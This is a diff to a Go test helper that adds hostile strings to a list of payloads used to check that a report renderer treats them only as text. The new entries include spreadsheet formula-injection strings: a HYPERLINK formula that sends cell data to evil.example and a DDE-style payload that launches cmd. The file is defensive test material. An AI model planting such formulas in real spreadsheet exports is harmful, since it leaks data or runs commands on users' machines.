@@ -1,5 +1,7 @@
 package reporttest
 
+import "strings"
+
 // Payloads are strings that a log or a model may hold and that no renderer may
 // pass on as anything but text.
 func Payloads() []string {
@@ -28,5 +30,10 @@ func Payloads() []string {
 		"`code` ```fence``` *bold* _it_ ~~s~~ $x$ @someone #12 <b>",
 		"表の名前 🙂 naïve Ωmega",
 		"\ufffe\uffff noncharacters",
+		`=HYPERLINK("http://evil.example/"&A1,"open")`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		"-1+1\t=1",
+		"e" + strings.Repeat("\u0301", 40) + strings.Repeat("\u200d", 10) + strings.Repeat("字", 80),
+		strings.Repeat("x", 3000),
 	}
 }
